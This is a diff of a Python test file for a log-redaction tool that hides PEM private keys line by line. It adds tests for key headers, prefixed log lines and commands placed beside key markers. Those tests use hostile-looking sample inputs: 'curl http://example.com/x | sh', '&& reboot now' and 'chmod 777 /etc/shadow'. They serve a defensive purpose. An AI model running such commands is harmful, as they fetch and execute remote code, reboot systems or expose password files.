@@ -4,6 +4,7 @@ from hypothesis import strategies as st
 
 from fermata.kit.hiding import LONGEST_LINE, LineHider, find_placeholder, hide_lines, hide_value
 from fermata.kit.redaction import describe_secret
+from fermata.kit.redaction.marks import mark_secret
 
 KEY = [
     "-----BEGIN RSA PRIVATE KEY-----",
@@ -11,6 +12,7 @@ KEY = [
     "aGVsbG8gd29ybGQh" * 4,
     "-----END RSA PRIVATE KEY-----",
 ]
+MARKS = [mark_secret("pem", line) for line in KEY]
 
 
 def test_secret_is_hidden_by_name_and_by_look():
@@ -32,21 +34,65 @@ def test_private_key_is_hidden_line_by_line():
     """Numbers of the lines after it stay true."""
     hidden = hide_lines(["before", *KEY, "after"])
 
-    assert hidden.lines == ("before", *["[redacted:pem]"] * 4, "after")
+    assert hidden.lines == ("before", *MARKS, "after")
     assert hidden.redactions == 1
 
 
 def test_key_whose_begin_was_cut_off_is_hidden_too():
     """The tail of a log may begin inside one."""
-    assert hide_lines([*KEY[1:], "after"]).lines == (*["[redacted:pem]"] * 3, "after")
+    assert hide_lines([*KEY[1:], "after"]).lines == (*MARKS[1:], "after")
 
 
 def test_begin_without_an_end_does_not_hide_the_log():
-    """A line that merely speaks of a key costs at most as many lines as a key has."""
-    hidden = hide_lines([KEY[0], *(f"line {number}" for number in range(500))])
+    """What cannot be a line of a key ends it, and what goes on as one has an end as well."""
+    lines = [f"line {number}" for number in range(500)]
 
-    assert hidden.lines[-1] == "line 499"
-    assert sum(line == "[redacted:pem]" for line in hidden.lines) < 130
+    assert hide_lines([KEY[0], *lines]).lines == (MARKS[0], *lines)
+    assert hide_lines([KEY[0], *["word"] * 500]).lines.count("word") > 370
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "# -----BEGIN PRIVATE KEY----- is what a key file begins with",
+        "curl http://example.com/x | sh # -----BEGIN PRIVATE KEY-----",
+        "-----END PRIVATE KEY----- && reboot now",
+    ],
+)
+def test_what_stands_beside_a_marker_of_a_key_is_shown(line):
+    """Nobody may hide a command by writing where a key begins or ends; nor what stands below it."""
+    first, *rest = hide_lines([line, "chmod 777 /etc/shadow", "replicas=0"]).lines
+
+    assert [word for word in line.split() if word not in f"{first} PRIVATE" and "-" not in word] == []
+    assert rest == ["chmod 777 /etc/shadow", "replicas=0"]
+
+
+@pytest.mark.parametrize(
+    ("before", "after"), [("2026-11-26T10:00:00Z app ", ""), ('  "', '\\n" +'), ("> ", ""), ("    ", "")]
+)
+def test_key_is_followed_behind_other_words_which_stay(before, after):
+    """A log writes the time before each line, and code writes quotes around it."""
+    hidden = hide_lines([f"{before}{line}{after}" for line in KEY])
+
+    assert hidden.lines == tuple(f"{before}{mark}{after}" for mark in MARKS)
+    assert hidden.redactions == 1
+
+
+def test_encrypted_key_has_headers():
+    """They, and the blank line below them, are a part of the key."""
+    headers = ["Proc-Type: 4,ENCRYPTED", "DEK-Info: AES-256-CBC,00112233445566778899AABBCCDDEEFF", ""]
+
+    hidden = hide_lines([KEY[0], *headers, *KEY[1:], "Proc-Type: 4,ENCRYPTED"])
+
+    assert hidden.lines == (MARKS[0], *(mark_secret("pem", one) for one in headers[:2]), "", *MARKS[1:], headers[0])
+
+
+def test_lines_of_two_keys_have_two_marks():
+    """What compares hidden texts must see that a key became another one."""
+    other = [KEY[0], KEY[1].lower(), *KEY[2:]]
+
+    assert hide_lines(KEY).lines != hide_lines(other).lines
+    assert hide_lines([line[:40] for line in KEY], 12).shortened == 4
 
 
 def test_sign_stands_before_the_mark_of_a_key():
@@ -54,7 +100,7 @@ def test_sign_stands_before_the_mark_of_a_key():
     hider = LineHider()
 
     assert [hider.add_if_key(f"+{line}", "+") for line in [*KEY, "after"]] == [True] * 4 + [False]
-    assert hider.finish().lines == ("+[redacted:pem]",) * 4
+    assert hider.finish().lines == tuple(f"+{mark}" for mark in MARKS)
 
 
 def test_long_line_is_cut_and_counted():
@@ -93,7 +139,8 @@ def test_tail_of_a_key_is_hidden_whole_whatever_its_lines_look_like():
 
     hidden = hide_lines(["a log line", KEY[1], random_line, KEY[2], KEY[3]])
 
-    assert hidden.lines == ("a log line", *["[redacted:pem]"] * 4)
+    assert hidden.lines[0] == "a log line"
+    assert [line.partition("pem:")[0] for line in hidden.lines[1:]] == ["[redacted:"] * 4
 
 
 @pytest.mark.parametrize(
